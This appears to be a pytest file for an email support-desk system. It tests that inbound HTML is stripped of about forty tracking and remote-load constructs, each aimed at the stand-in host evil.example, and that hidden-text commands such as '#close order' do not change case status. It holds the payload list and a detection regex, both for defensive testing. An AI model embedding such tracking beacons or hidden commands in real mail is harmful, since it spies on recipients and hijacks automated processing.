"""Threat 65, HTML that calls home or hides words: nothing we send refers to a stranger's server, hidden words are none.

Tracking pixels, style sheets, forms, base and refresh; and commands or numbers that only a program reads.
"""

import re
from email import message_from_bytes, policy
from email.message import EmailMessage

import pytest
import sqlalchemy as sa

from store.tables import messages
from tests.casework import AGENT, SELLER
from tests.office import Office

_URL = "http://evil.example/t?id=1"
_CALLS = (
    '<img src="{}">',
    '<img srcset="{} 2x" src="cid:x">',
    '<img src="{}" width=1 height=1>',
    '<input type=image src="{}">',
    '<body background="{}">',
    '<table background="{}"><tr><td background="{}">x</table>',
    '<div style="background:url({})">x</div>',
    '<div style="background-image:url(&quot;{}&quot;)">x</div>',
    '<p style="list-style-image:url({})">x</p>',
    '<p style="content:url({})">x</p>',
    '<p style="cursor:url({}),auto">x</p>',
    '<style>@import "{}";</style>',
    "<style>@import url({});</style>",
    "<style>body{{background:url({})}}</style>",
    "<style>@font-face{{font-family:a;src:url({})}}</style>",
    '<link rel=stylesheet href="{}">',
    '<link rel=prefetch href="{}">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="http://evil.example/"><img src="t?id=1">',
    '<form action="{}"><input name=a></form>',
    '<button formaction="{}">x</button>',
    '<iframe src="{}"></iframe>',
    '<frameset><frame src="{}"></frameset>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<applet codebase="{}"></applet>',
    '<video poster="{}" src="{}"></video>',
    '<audio src="{}"></audio>',
    '<source src="{}">',
    '<track src="{}">',
    '<svg><image href="{}"/></svg>',
    '<svg><use xlink:href="{}#a"/></svg>',
    '<svg><script href="{}"></script></svg>',
    '<script src="{}"></script>',
    '<math><a xlink:href="{}">x</a></math>',
    '<xml:namespace src="{}">',
    '<bgsound src="{}">',
    '<img dynsrc="{}" lowsrc="{}">',
    '<a ping="{}" href="cid:x">x</a>',
)


def _in_capitals(html: str) -> str:
    return html.upper().replace("HTTP://EVIL.EXAMPLE/T?ID=1", _URL)


_WRITTEN = [one.replace("{}", _URL).replace("{{", "{").replace("}}", "}") for one in _CALLS]
_SAMPLES = [*_WRITTEN, *map(_in_capitals, _WRITTEN)]
# What a mail program fetches by itself when it shows one; a link that a person may follow is none.
_LOADED = re.compile(
    r"""(?:\b(?:src|srcset|background|poster|data|codebase|dynsrc|lowsrc|action|formaction|ping)\s*=|url\(|@import"""
    r"""|<(?:link|base|meta|frame|iframe|object|embed|script|form|image|use)\b)[^>]{0,200}evil\.example""",
    re.IGNORECASE,
)


def _mail(html: str) -> EmailMessage:
    message = EmailMessage(policy=policy.SMTP)
    message["From"], message["To"], message["Subject"] = SELLER, "support@casepost.example", "Order lost"
    message["Message-ID"] = f"<{abs(hash(html))}@client.example>"
    message.set_content(f"<html><body><p>My order is lost.</p>{html}</body></html>", subtype="html")
    return message


def _letters(office: Office) -> list[EmailMessage]:
    office.write()
    while office.deliver():
        pass
    found = [message_from_bytes(one.content, policy=policy.default) for one in office.way.tried]
    return [one for one in found if isinstance(one, EmailMessage)]


def test_65_none_of_eighty_samples_makes_a_mail_of_ours_or_a_copy_that_is_shown_load_anything(office: Office) -> None:
    assert len(_SAMPLES) == 80
    for html in _SAMPLES:
        assert office.receive(_mail(html)) is not None
    shown = [row.html for row in office.rows(sa.select(messages.c.html))]
    assert len(shown) == len(_SAMPLES)
    assert [html for html in shown if html is None or _LOADED.search(html)] == []
    letters = _letters(office)
    assert len([one for one in letters if AGENT in str(one["To"])]) == len(_SAMPLES)
    for letter in letters:
        for part in letter.walk():
            if part.get_content_maintype() == "text":
                assert _LOADED.findall(str(part.get_content())) == [], part.get_content()


def test_65_the_search_finds_what_is_loaded() -> None:
    """But for a link of MathML, which a person has to follow."""
    assert [html for html in _SAMPLES if not _LOADED.search(html)] == [
        one for one in _SAMPLES if "<math" in one.lower()
    ]


_HIDDEN = (
    '<div style="display:none">{}</div>',
    '<span style="visibility:hidden">{}</span>',
    '<p style="font-size:0">{}</p>',
    '<p style="color:#ffffff;background:#ffffff">{}</p>',
    "<p hidden>{}</p>",
    "<!-- {} -->",
    "<style>/* {} */</style>",
    "<script>/* {} */</script>",
    "<noframes>{}</noframes><template>{}</template>",
    '<div style="max-height:0;overflow:hidden">{}</div>',
    '<div style="position:absolute;left:-9999px">{}</div>',
    '<p style="opacity:0">{}</p>',
)


@pytest.mark.parametrize("html", _HIDDEN)
def test_65_hidden_words_are_not_the_sellers(office: Office, html: str) -> None:
    hidden = "#close order 302-9999999-9999999"
    applied = office.receive(_mail(html.replace("{}", hidden)))
    assert applied is not None
    case = office.case(applied.number)
    assert case["identifiers"] == []
    assert case["status"] == "open"
    assert "302-9999999" not in case["messages"][0]["text"]


def test_65_a_command_that_is_hidden_in_an_agents_mail_is_none(office: Office) -> None:
    applied = office.receive(_mail("<p>See 302-1234567-7654321</p>"))
    assert applied is not None
    (relay,) = [one for one in _letters(office) if AGENT in str(one["To"])]
    reply = EmailMessage(policy=policy.SMTP)
    reply["From"], reply["To"] = AGENT, str(relay["Reply-To"])
    reply["Subject"], reply["Message-ID"] = "Re: Order lost", "<reply@office.example>"
    reply.set_content('<p style="display:none">#close</p><p>It is on its way.</p>', subtype="html")
    office.receive(reply, relay["Reply-To"].addresses[0].addr_spec, sender=AGENT)
    assert office.case(applied.number)["status"] == "waiting"
